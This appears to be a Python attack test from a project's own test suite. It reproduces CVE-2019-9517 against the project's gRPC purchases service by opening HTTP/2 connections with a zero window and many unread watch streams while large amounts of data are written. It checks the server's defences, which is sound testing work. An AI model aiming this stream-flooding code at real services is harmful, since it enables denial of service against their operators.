"""Watches that are never read: the window stays shut, and what is to be sent waits; CVE-2019-9517.

What stops it: a watch holds nothing but a revision, and reads on when its last message has left
(rpc/services/feed.py); one that is not read for 30 s is ended with RESOURCE_EXHAUSTED and where to go on
(tests/rpc/test_watch_ends.py); and a caller has only so many, which he
keeps until what waits for him has gone (tests/attacks/test_slow_readers.py).
"""

from contextlib import ExitStack

import grpc
from google.type.money_pb2 import Money
from hyperframe.frame import SettingsFrame

from clientela.v1 import purchases_pb2 as ppb
from tests.attacks.many_streams import STREAMS, WATCH
from tests.attacks.siege import Attack, Target
from tests.attacks.wire import Wire, headers_frame, message_frame, request_headers
from tests.rpc.callers import Caller, request_id
from tests.rpc.making import new_customer

FROM_THE_BEGINNING = b"\x08\x00"
ITEMS = 500


def shut_windows(target: Target, watches: int) -> None:
    """Watch from the beginning with a window of nothing, while much is written."""
    with ExitStack() as stack:
        _write(target)
        wires = [
            stack.enter_context(Wire.open(target.address, {SettingsFrame.INITIAL_WINDOW_SIZE: 0}))
            for _ in range(-(-watches // STREAMS))
        ]
        for place in range(watches):
            stream = 2 * (place // len(wires)) + 1
            call = headers_frame(stream, request_headers(WATCH, target.token))
            wires[place % len(wires)].send(call + message_frame(stream, FROM_THE_BEGINNING))
        for _ in range(3):
            _write(target)
        assert all(wire.answers_ping() for wire in wires)


def _write(target: Target) -> None:
    """Record half a megabyte of purchases."""
    with grpc.insecure_channel(target.address) as channel:
        caller = Caller(channel, target.token)
        name = new_customer(caller).name
        bought = ppb.Purchase(amount=Money(currency_code="EUR", units=1), note=1000 * "n")
        items = [
            ppb.ImportItem(purchase=bought, customer=name, request_id=request_id()) for _ in range(ITEMS)
        ]
        caller.purchases.ImportPurchases(iter([ppb.ImportPurchasesRequest(items=items)]))


ATTACKS = [Attack("watches that are never read", shut_windows, 10, 200)]
